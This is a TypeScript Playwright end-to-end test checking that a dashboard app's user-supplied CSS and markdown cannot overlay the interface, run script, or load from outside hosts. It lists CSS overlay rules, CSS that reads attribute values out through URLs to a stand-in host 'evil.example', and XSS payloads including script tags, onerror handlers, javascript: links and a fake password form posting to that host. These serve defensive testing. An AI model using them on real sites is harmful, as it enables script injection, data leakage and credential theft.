import type { Browser, BrowserContext, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type ApiClient, signIn } from '../support/api-client.ts';
import { newPage, openBrowser, signedIn } from '../support/browser.ts';
import { differingPixels } from '../support/differing-pixels.ts';
import { type FacetProcess, startFacet } from '../support/facet-process.ts';
import { made } from '../support/made-objects.ts';

/** A person who may edit one dashboard writes for everybody who opens it. */
let facet: FacetProcess;
let admin: ApiClient;
let browser: Browser;
let context: BrowserContext;

beforeAll(async () => {
  [facet, browser] = await Promise.all([startFacet(), openBrowser()]);
  admin = await signIn(facet.url);
  context = await signedIn(browser, facet.url);
}, 180_000);
afterAll(async () => {
  await browser?.close();
  await facet?.stop();
});

const OUTSIDE = 'https://evil.example';

const COVERING = [
  'body { position: fixed; inset: 0; z-index: 99999; transform: translateY(-300px) scale(3) }',
  'body { margin: -300px; width: 4000px; height: 4000px }',
  '.dashboard-component { position: fixed; inset: 0; z-index: 2147483647 }',
  '.dashboard-component { position: absolute; top: -400px; left: -400px; width: 4000px; height: 4000px; z-index: 9 }',
  '.dashboard-component { position: sticky; top: -400px; z-index: 9; margin: -400px }',
  '.dashboard-component { box-shadow: 0 0 0 4000px red; outline: 4000px solid red; outline-offset: -1px }',
  '.dashboard-component::before { content: "x"; position: absolute; inset: -4000px; background: red; z-index: 9 }',
  '.dashboard-component { transform: translate3d(-400px, -400px, 400px) scale(9); background: red }',
  '.dashboard-component { filter: drop-shadow(0 -300px red) blur(80px); background: red }',
  ':root { --surface-card: red; --h-bar: 0px; --text-1: transparent } html { color: red; font-size: 60px }',
  'html > body, header, nav, main, aside, button, #app, [class*=bar] { display: none !important }',
  ':root ~ *, body + *, body ~ * { display: none !important }',
  '} header, nav, aside, button { display: none !important } {',
  '</style><style> header, nav, aside, button { display: none !important }',
] as const;

const LOADING = [
  `@import "${OUTSIDE}/import.css";`,
  `@import url(${OUTSIDE}/import-url.css) layer(x);`,
  `@font-face { font-family: f; src: url(${OUTSIDE}/font.woff2) } * { font-family: f }`,
  `* { background: url(${OUTSIDE}/background.png) }`,
  `* { --leak: url(${OUTSIDE}/variable.png); background: var(--leak) }`,
  `* { background: image-set("${OUTSIDE}/set.png" 1x); list-style: url(${OUTSIDE}/list.png); cursor: url(${OUTSIDE}/cursor.cur), auto }`,
  `input[value^="s"], [data-node^="M"], a[href*="dashboard"] { background: url(${OUTSIDE}/reads.png) }`,
  `*::after { content: url(${OUTSIDE}/content.png) attr(href) }`,
  `* { mask: url(${OUTSIDE}/mask.svg#m); filter: url(${OUTSIDE}/filter.svg#f); border-image: url(${OUTSIDE}/border.png) }`,
  `@media screen { * { background: u\\72l(${OUTSIDE}/escaped.png) } }`,
  `@keyframes k { from { background: url(${OUTSIDE}/frame.png) } } * { animation: k 1s infinite }`,
] as const;

const RUN = 'window.hasRun = true';
const TEXT = [
  'Text of the card',
  `<script>${RUN}</script>`,
  `<img src="/nowhere.png" onerror="${RUN}">`,
  `<svg onload="${RUN}"><script>${RUN}</script></svg>`,
  `<a href="javascript:${RUN}">A link that runs</a>`,
  `[Another one](javascript:${encodeURIComponent(RUN)})`,
  `<iframe src="${OUTSIDE}/frame"></iframe><object data="${OUTSIDE}/object"></object><embed src="${OUTSIDE}/embed">`,
  `<link rel="stylesheet" href="${OUTSIDE}/link.css"><style>@import "${OUTSIDE}/style.css"; header { display: none }</style>`,
  `<meta http-equiv="refresh" content="0;url=${OUTSIDE}/refresh"><base href="${OUTSIDE}/">`,
  `<form action="${OUTSIDE}/form"><input name="password" type="password"><button>Sign in</button></form>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:red url(${OUTSIDE}/inline.png)">Covers</div>`,
  `<video src="${OUTSIDE}/video" poster="${OUTSIDE}/poster.png" autoplay></video><audio src="${OUTSIDE}/audio" autoplay></audio>`,
  `<img src="${OUTSIDE}/image.png" srcset="${OUTSIDE}/source.png 2x">![picture](${OUTSIDE}/markdown.png)`,
].join('\n\n');

async function addBoard(css: string, code = 'Text of the card'): Promise<string> {
  const id = await made(admin, '/api/v1/dashboard/', {
    dashboard_title: 'Board',
    css,
    json_metadata: JSON.stringify({
      positions: {
        ROOT_ID: { id: 'ROOT_ID', type: 'ROOT', children: ['GRID_ID'] },
        GRID_ID: { id: 'GRID_ID', type: 'GRID', children: ['ROW-1'] },
        'ROW-1': { id: 'ROW-1', type: 'ROW', children: ['MARKDOWN-1'], meta: {} },
        'MARKDOWN-1': { id: 'MARKDOWN-1', type: 'MARKDOWN', children: [], meta: { width: 4, height: 50, code } },
      },
    }),
  });
  return `/superset/dashboard/${id}/`;
}

interface Opened {
  readonly page: Page;
  readonly faults: readonly string[];
  readonly outside: readonly string[];
}

async function openBoard(address: string): Promise<Opened> {
  const { page, faults } = await newPage(context);
  const outside: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(facet.url) && !/^(?:data|blob):/.test(request.url())) outside.push(request.url());
  });
  await page.goto(address);
  await page.locator('[data-node="MARKDOWN-1"]').waitFor({ state: 'attached' });
  await page.waitForLoadState('networkidle');
  return { page, faults, outside };
}

/** Everything but the place of the dashboard's own parts: the bars above it, and the pane beside it. */
async function around(page: Page): Promise<readonly Buffer[]> {
  const place = await page.locator('[data-dashboard-styled]').locator('..').boundingBox();
  if (place === null) throw new Error('The dashboard has no place.');
  await page.mouse.move(1439, 899);
  const clips = [
    { x: 0, y: 0, width: 1440, height: Math.floor(place.y) },
    { x: 0, y: Math.floor(place.y), width: Math.floor(place.x), height: 900 - Math.floor(place.y) },
  ];
  expect(clips.filter(({ width, height }) => width <= 200 || height <= 60)).toEqual([]);
  const shots = [];
  for (const clip of clips) shots.push(await page.screenshot({ clip, animations: 'disabled' }));
  return shots;
}

/** Edges of icons differ by single pixels from page to page. */
const EDGES = 50;

/** The pictures that differ, as `<place in the list>: <pixels>`. */
async function differences(seen: readonly Buffer[], expected: readonly Buffer[]): Promise<readonly string[]> {
  const page = await context.newPage();
  const found: string[] = [];
  for (const [index, one] of seen.entries()) {
    const pixels = await differingPixels(page, one, expected[index] ?? Buffer.alloc(0));
    if (pixels > EDGES) found.push(`${index}: ${pixels}`);
  }
  await page.close();
  return found;
}

describe('CSS of a dashboard', () => {
  const framed = async (css: string, query = ''): Promise<readonly Buffer[]> => {
    const { page, faults } = await openBoard(`${await addBoard(css)}${query}`);
    // The pane beside the dashboard as it stays: it has read its list.
    if (query !== '') await page.getByText('No charts found').waitFor();
    const seen = await around(page);
    expect(faults).toEqual([]);
    await page.close();
    return seen;
  };

  it('covers and changes nothing outside of its parts', async () => {
    const expected = await framed('.plain { color: red }');
    const changed: string[] = [];
    for (const rule of COVERING) {
      const found = await differences(await framed(rule), expected);
      changed.push(...found.map((one) => `${one} ${rule}`));
    }
    expect(changed).toEqual([]);
  }, 240_000);

  it('covers and changes nothing outside of its parts while they are edited', async () => {
    const expected = await framed('.plain { color: red }', '?edit=true');
    const rules = COVERING.filter((rule) => !rule.includes('</style>') && !rule.startsWith('}'));
    const seen = await framed(rules.join('\n'), '?edit=true');
    expect(await differences(seen, expected)).toEqual([]);
  });

  it('does act within its parts', async () => {
    const { page } = await openBoard(
      await addBoard('.dashboard-component-markdown { opacity: 0.5; position: relative }'),
    );
    const style = await page.locator('[data-node="MARKDOWN-1"]').evaluate((node) => getComputedStyle(node).opacity);
    expect(style).toBe('0.5');
    await page.close();
  });

  it('loads nothing from outside, and reads no values', async () => {
    const { page, faults, outside } = await openBoard(await addBoard(LOADING.join('\n')));
    await page.getByText('Text of the card').waitFor();
    expect(outside).toEqual([]);
    expect(faults).toEqual([]);
    await page.close();
  });
});

it('text of a dashboard runs nothing, loads nothing from outside, leads nowhere, and covers nothing', async () => {
  const plain = await openBoard(await addBoard(''));
  const expected = await around(plain.page);
  await plain.page.close();
  const { page, faults, outside } = await openBoard(await addBoard('', TEXT));
  await page.getByText('Text of the card').waitFor();
  expect(await around(page)).toEqual(expected);
  const card = page.locator('[data-node="MARKDOWN-1"]');
  for (const words of ['A link that runs', 'Another one']) {
    const link = card.locator('a', { hasText: words });
    if ((await link.count()) > 0) await link.click();
  }
  expect(await page.evaluate(() => Reflect.get(window, 'hasRun'))).toBeUndefined();
  expect(new URL(page.url()).origin).toBe(facet.url);
  const parts =
    'script, style, link, meta, base, iframe, object, embed, form, input, video, audio, [style*=fixed], [srcset]';
  expect(await card.locator(parts).count()).toBe(0);
  expect(outside).toEqual([]);
  expect(faults.filter((fault) => !fault.includes('404'))).toEqual([]);
  await page.close();
});
